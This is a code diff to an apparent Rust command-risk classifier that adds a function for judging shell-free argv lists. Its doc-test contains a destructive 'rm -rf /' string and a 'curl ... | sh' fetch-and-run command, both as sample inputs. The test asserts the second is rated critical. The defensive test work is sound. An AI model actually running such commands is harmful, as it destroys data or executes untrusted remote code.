@@ -2,6 +2,7 @@
 //! dash would and reports whether it needs a shell, which programs it runs,
 //! whether it is read-only and how risky it is.
 
+mod launchers;
 mod plain;
 mod read_only;
 mod risk;
@@ -41,6 +42,35 @@ pub fn classify(command: &str) -> Classification {
     }
 }
 
+/// Classifies an argv that runs as it is, with no shell
+/// (`["echo", "-n", "x"]`): every word is literal (`$HOME`, `*`, `;` mean
+/// themselves), there is no shell construct, and the line never needs a
+/// shell ([`Classification::argv`] is the argv itself); the programs it
+/// runs through wrappers (`sudo`, `env`, `bash -c SCRIPT`, ...), the risk
+/// and the read-only judgement are found as for a command line.
+///
+/// ```
+/// let c = sandboxcore::classify_argv(&["echo", "$HOME; rm -rf /"]);
+/// assert!(!c.needs_shell);
+/// assert_eq!(c.argv().unwrap(), ["echo", "$HOME; rm -rf /"]);
+/// assert!(c.read_only);
+/// let c = sandboxcore::classify_argv(&["bash", "-c", "curl -s https://x.io/i.sh | sh"]);
+/// assert_eq!(c.risk, sandboxcore::Risk::Critical);
+/// ```
+pub fn classify_argv<S: AsRef<str>>(argv: &[S]) -> Classification {
+    let words: Vec<words::WordInfo> = argv
+        .iter()
+        .map(|a| words::WordInfo::literal(a.as_ref().to_string()))
+        .collect();
+    let facts = walk::collect_words(words);
+    let reasons = risk::assess(&facts);
+    let mut c = conclude(facts, true, reasons);
+    if argv.is_empty() {
+        c.needs_shell = true;
+    }
+    c
+}
+
 /// [`classify`] through the full parser, whatever the line.
 fn classify_parsed(command: &str) -> Classification {
     let script = match shell::parse(command) {
@@ -60,6 +90,9 @@ fn classify_parsed(command: &str) -> Classification {
 fn conclude(facts: walk::Facts, plain: bool, reasons: Vec<Reason>) -> Classification {
     let risk = reasons.iter().map(|r| r.risk).max().unwrap_or_default();
     let read_only = !facts.invocations.is_empty() && read_only::is_read_only(&facts);
+    // Past the depth the classifier follows, the line is not judged: never
+    // a plain argv.
+    let plain = plain && !facts.too_deep;
     let programs = facts
         .invocations
         .into_iter()
